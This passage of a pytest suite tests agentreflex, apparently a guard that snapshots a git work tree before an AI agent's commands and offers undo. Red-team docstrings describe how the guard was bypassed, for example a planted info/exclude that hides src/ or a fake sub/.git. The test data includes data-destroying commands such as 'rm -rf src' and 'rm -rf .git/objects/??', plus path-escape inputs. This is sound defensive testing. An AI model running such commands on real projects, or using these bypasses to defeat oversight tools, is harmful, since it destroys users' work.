    link).  A folder on the way that is a link now is refused, wherever it leads."""
    (repo / "lib" / "pkg").mkdir(parents=True)
    (repo / "lib" / "pkg" / "a.py").write_text("lib's own\n")
    sh(repo, "git add lib && git commit -qm lib -- lib")
    run_tool(repo, "rm -rf src && ln -s lib src", "t0")
    for force in ([], ["--force"]):
        assert undocmd.main(["1", *force, "--cwd", str(repo)]) == 1
        err = capsys.readouterr().err
        assert "never written: src/pkg/a.py: its folder src is a link now" in err
        assert sorted(p.name for p in (repo / "lib").rglob("*")) == ["a.py", "pkg"]
        assert (repo / "lib" / "pkg" / "a.py").read_text() == "lib's own\n"
    assert (repo / "README").read_text() == "readme, staged\n"
    (repo / "src").unlink()  # as the message says; then the undo restores src
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert (repo / "src" / "pkg" / "a.py").read_text() == "print('a, edited')\n"


def test_a_prune_stopped_half_way_never_leaves_a_listed_snapshot_without_its_objects(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """red-team rt42: prune removed a snapshot's folder file by file, meta.json among them in
    whatever order the folder lists them; a hook stopped in the middle (the host's wait
    over) left a listed snapshot whose objects were partly gone, which undo then offered.
    A doomed folder is first renamed out of the listing, then removed; what a stopped
    removal leaves is removed by the next prune."""
    import shutil

    found = observe.find_repo(str(repo))
    assert found is not None
    for i in range(3):
        (repo / "src" / "new.py").write_text(f"v{i}\n")
        snapshot.take(found, f"cmd {i}", "s")
    root = Path(snapshot.store_dir(found))
    real = shutil.rmtree

    def stopped(path: str, *args: Any, **kwargs: Any) -> None:
        real(os.path.join(path, "objects"))  # part of it, then the process is gone
        raise KeyboardInterrupt

    monkeypatch.setattr(shutil, "rmtree", stopped)
    with pytest.raises(KeyboardInterrupt):
        snapshot.prune(found, keep=1, most=2)
    monkeypatch.setattr(shutil, "rmtree", real)
    for snap in snapshot.listing(found):
        assert (root / str(snap.n) / "objects").is_dir()
    assert [s.command for s in snapshot.listing(found)] == ["cmd 1", "cmd 2"]
    for leftover in root.iterdir():
        old = leftover.stat().st_mtime - 2 * snapshot.STALE_SECONDS
        os.utime(leftover, (old, old))
    (repo / "src" / "new.py").write_text("v3\n")
    snapshot.take(found, "cmd 3", "s")
    snapshot.prune(found)
    assert sorted(p.name for p in root.iterdir()) == ["2", "3", "4"]


def test_undo_says_why_a_path_whose_folder_is_now_a_file_is_not_restored(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """red-team rt42: after ``rm -rf src/pkg && echo x > src/pkg`` undo printed only "could
    not restore: src/pkg/a.py", and the user could not tell how to get the work back.
    It names the file in the way now; moved away, the undo restores the rest."""
    run_tool(repo, "rm -rf src/pkg && echo x > src/pkg", "t0")
    capsys.readouterr()
    assert undocmd.main(["1", "--cwd", str(repo)]) == 1
    err = capsys.readouterr().err
    assert "src/pkg/a.py" in err and "src/pkg is a file now" in err
    assert (repo / "src" / "pkg").read_text() == "x\n"  # never overwritten
    (repo / "src" / "pkg").rename(repo / "pkg.agent")
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert (repo / "src" / "pkg" / "a.py").read_text() == "print('a, edited')\n"


def test_a_dangling_git_link_in_a_sub_folder_does_not_empty_the_snapshot(repo: Path) -> None:
    """red-team rt49: a ``.git`` link leading nowhere in a sub folder (``ln -s /nowhere
    sub/.git``) is skipped by git's own discovery, which goes on to the project's
    repository; the guard took the sub folder for the work tree's top, git read the
    project's index against it, every file read as deleted, and the snapshot before a
    discard run from there held an empty tree while the question said "snapshot 1 saved
    the uncommitted work".  Now the top is found as git finds it: the snapshot holds the
    project's uncommitted work and undo puts it back."""
    sub = repo / "sub"
    sub.mkdir()
    (sub / ".git").symlink_to("/nonexistent-rt49")
    before = tree_bytes(repo)
    hook(repo, "PreToolUse", "git checkout -- .. && rm -f ../src/new.py", "t1", cwd=sub)
    sh(repo, "git checkout -- . && rm -f src/new.py")
    hook(repo, "PostToolUse", "git checkout -- .. && rm -f ../src/new.py", "t1", cwd=sub)
    snap = snapshot.listing(observe.find_repo_uncached(str(repo)) or pytest.fail("no repo"))[0]
    assert "src/new.py" in snap.files and "src/pkg/a.py" in snap.files
    assert undocmd.main(["1", "--cwd", str(sub)]) == 0
    assert {k: v for k, v in tree_bytes(repo).items() if k != "sub/.git"} == before


BROKEN = {
    # a crash or a full disk mid-write leaves HEAD empty or NUL-filled (git: "not a git
    # repository"); a HEAD naming no object ("bad object HEAD"); refs or objects gone
    "empty HEAD": ": > .git/HEAD",
    "garbled HEAD": "printf 'garbage\\n' > .git/HEAD",
    "HEAD naming no object": "printf '%040d\\n' 1 > .git/HEAD",
    "refs gone": "rm -rf .git/refs .git/packed-refs",
    "objects gone": "rm -rf .git/objects/??",
    "index garbled": "printf 'DIRCxxxx' > .git/index",
}


@pytest.mark.parametrize("damage", list(BROKEN))
def test_a_repository_git_cannot_read_still_has_its_work_tree_saved(
    repo: Path, damage: str
) -> None:
    """red-team rt49: with ``.git/HEAD`` empty or garbled, naming no object, or the refs or
    objects gone, git refused the repository and no snapshot was taken: ``rm -rf src``
    ran (the gate, which asks git what is uncommitted, let it through) and the work was
    lost.  Now the work tree is saved anyway through a scratch git folder of the
    guard's own (the repository's config, hooks and filters never read), and
    ``agentreflex undo`` puts it back."""
    sh(repo, BROKEN[damage])
    before = tree_bytes(repo)
    run_tool(repo, "rm -rf src")
    assert "src/new.py" not in tree_bytes(repo)
    assert undocmd.main(["1", "--cwd", str(repo)]) in (0, 1)
    after = tree_bytes(repo)
    assert {k: v for k, v in after.items() if k.startswith("src/")} == {
        k: v for k, v in before.items() if k.startswith("src/")
    }


def test_undo_of_named_paths_takes_the_newest_snapshot_that_holds_them(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """red-team rt49: ``agentreflex undo src`` (paths, no snapshot number) was refused by
    the argument parser ("invalid int value"); a user who wants one folder or file back
    does not know which of fifty snapshots holds it.  Now each path comes from the
    newest snapshot taken here that holds it otherwise than the work tree now does."""
    before = tree_bytes(repo)
    run_tool(repo, "rm -rf src", "t1")
    run_tool(repo, "echo more >> README", "t2")
    assert undocmd.main(["src", "--cwd", str(repo)]) == 0
    out = capsys.readouterr().out
    assert "snapshot 1" in out
    after = tree_bytes(repo)
    assert {k: v for k, v in after.items() if k.startswith("src/")} == {
        k: v for k, v in before.items() if k.startswith("src/")
    }
    assert after["README"] != before["README"]  # not named: left as it is
    sub = repo / "src" / "pkg"
    (sub / "a.py").write_text("agent's\n")
    assert undocmd.main(["a.py", "--cwd", str(sub), "--force"]) == 0
    assert (sub / "a.py").read_bytes() == before["src/pkg/a.py"]


@pytest.mark.parametrize("named", ["..", "../outside.txt", "/etc/hostname", "src/../../x"])
def test_undo_of_a_path_outside_the_work_tree_writes_nothing(
    repo: Path, named: str, capsys: pytest.CaptureFixture[str]
) -> None:
    run_tool(repo, "rm -rf src", "t1")
    had = sorted(p.name for p in repo.parent.iterdir())
    assert undocmd.main(["1", named, "--cwd", str(repo)]) != 0
    assert undocmd.main([named, "--cwd", str(repo)]) != 0
    assert sorted(p.name for p in repo.parent.iterdir()) == had
    assert not (repo / "src").exists()  # nothing of the snapshot written for it either
    err = capsys.readouterr().err
    assert "outside" in err or "not in snapshot" in err


def test_what_a_command_puts_in_the_scratch_git_folder_hides_nothing(repo: Path) -> None:
    """red-team rt49: the scratch git folder a broken repository's snapshot runs through
    (``.git/agentreflex/scratch``) is in ``.git``; an ``info/exclude`` put there hid
    ``src/`` from the snapshot before ``rm -rf src``.  Now anything there but what the
    guard writes is removed first."""
    sh(repo, BROKEN["garbled HEAD"])
    planted = repo / ".git" / "agentreflex" / "scratch" / "info"
    planted.mkdir(parents=True)
    (planted / "exclude").write_text("src/\n")
    before = tree_bytes(repo)
    run_tool(repo, "rm -rf src")
    undocmd.main(["1", "--cwd", str(repo)])
    assert {k: v for k, v in tree_bytes(repo).items() if k.startswith("src/")} == {
        k: v for k, v in before.items() if k.startswith("src/")
    }


def test_a_repository_that_names_sha1_as_its_object_format_is_snapshotted(repo: Path) -> None:
    """red-team rt49: ``extensions.objectformat = sha1`` written out (git accepts it, as
    the default it is) was read as a format the snapshot does not write: no snapshot
    was ever taken there, and the discard was lost."""
    sh(repo, "git config core.repositoryformatversion 1 && git config extensions.objectformat sha1")
    before = tree_bytes(repo)
    run_tool(repo, "rm -rf src")
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    assert tree_bytes(repo) == before


def test_doctor_says_when_git_cannot_read_the_repository(repo: Path) -> None:
    """red-team rt49: with a garbled HEAD doctor said the work tree was "observed through
    git" as if nothing were wrong; now it says git refuses the repository and how the
    work is saved meanwhile."""
    from agentreflex.core.worktree.status import worktree_line

    sh(repo, BROKEN["garbled HEAD"])
    line = worktree_line(str(repo), True)
    assert "git cannot read this repository" in line and "whole work tree" in line


@pytest.mark.parametrize(
    "plant",
    [
        "mkdir -p sub/.git/objects && printf 'garbage\\n' > sub/.git/HEAD",
        "mkdir -p sub/.git",
    ],
)
def test_a_git_folder_git_skips_in_a_sub_folder_does_not_empty_the_snapshot(
    repo: Path, plant: str
) -> None:
    """red-team rt49: a ``sub/.git`` folder git does not take for a repository (no HEAD,
    a garbled one) is skipped by git's discovery too, which finds the project's; the
    guard then asked again with ``sub`` as the work tree (its answer to a
    ``core.worktree`` set elsewhere), read the project's index against ``sub``, and the
    snapshot before a discard run from there held nothing of the project's work while
    saying it was saved.  Now a repository git found above a ``.git`` it skipped is
    taken as git takes it."""
    sh(repo, plant)
    sub = repo / "sub"
    before = tree_bytes(repo)
    hook(repo, "PreToolUse", "rm -rf ../src", "t1", cwd=sub)
    sh(repo, "rm -rf src")
    hook(repo, "PostToolUse", "rm -rf ../src", "t1", cwd=sub)
    assert undocmd.main(["1", "--cwd", str(repo)]) == 0
    kept = {k: v for k, v in before.items() if not k.startswith("sub/")}
    assert {k: v for k, v in tree_bytes(repo).items() if not k.startswith("sub/")} == kept
